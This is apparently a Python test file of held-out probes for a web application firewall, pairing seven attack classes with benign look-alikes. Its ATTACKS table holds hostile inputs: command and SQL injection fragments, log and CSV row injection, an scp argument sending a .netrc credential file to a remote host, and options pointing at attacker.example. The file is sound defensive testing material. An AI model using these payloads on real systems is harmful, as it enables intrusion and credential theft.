"""WAF, part 2z75: held-out probes, ninety-eighth file (README: the
hundred-and-sixth round), written for this file on 2026-12-07. No
string is taken from a corpus or a public list: each class is written
here in shapes of our own, through the real edge (shipped config, bans
off).

The classes the hundred-and-sixth round's corpora (paramedics,
greenhouse, toyshop, textilemill) showed when first replayed (at
b1f4922) that the round fixed, an attack each and a look-alike that
passes:
- alias-after-label: an alias defined after a sentence and a label's
  colon is a line shared for a reader (the false positive); an alias
  definition as the value is refused as before.
- limit-parenthetical: LIMIT with an offset and a count that opens a
  parenthetical is a label's (the false positive); after a literal or a
  number it is refused as before.
- rpm-column: rpm is a unit too, a column's name in a delimited export
  (the false positive); rpm given arguments after a separator is
  refused as before.
- scp-remote-argument: an option, a path, then a remote place
  ("host:/dir/") to the end: scp's or rsync's argument list; a
  sentence that names such a place passes.
- options-then-url: options given a path or a word, then one given a
  URL, to the end; a list whose second item holds a link passes.
- escaped-stamp-logfmt: an escaped line break, a date and a time, then
  logfmt's level field; a sentence with a time and a level passes.
- quoted-semicolon-row: a first line that closes the application's
  quoted field and adds one of its own, ";" between them, then a row of
  quoted fields; one line that quotes words passes.
Measured on b1f4922: every look-alike passed but
the first three; the alias, LIMIT and rpm attacks were refused, the
other four passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "alias-after-label": ["alias ll='ls -la /root'"],
    "limit-parenthetical": ["x' limit 1,1)", "7 limit 0,1--"],
    "rpm-column": ["x;rpm -qa"],
    "scp-remote-argument": ["-r /home/app/.netrc files.example:/in/"],
    "options-then-url": ["-L/etc -T https://attacker.example/drop"],
    "escaped-stamp-logfmt": ['unit 7\\r\\n2025-02-03 04:05 lvl=error msg="door forced" user=ops'],
    "quoted-semicolon-row": ['Acme Ltd";"0.00"\n"Beta GmbH";"0.00'],
}

BENIGN = {
    "alias-after-label": ["My alias on the build box: alias gs='git status'"],
    "limit-parenthetical": ["EC in bay 3 = 2.4 (limit 2,500)"],
    "rpm-column": ["press;rpm;bar\nP1;1450;2.2\nP2;1460;2.1"],
    "scp-remote-argument": ["use -r with scp, e.g. to backup.example:/srv/"],
    "options-then-url": ["- item one\n- see https://toys.example/help"],
    "escaped-stamp-logfmt": ["unit 7 logged at 2025-02-03 04:05 level=error in the sheet"],
    "quoted-semicolon-row": ['He said "fine";"ok" was the reply'],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r98_attack_refused_everywhere,
 test_heldout_r98_benign_passes) = heldout_probe_tests(
    "r98", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
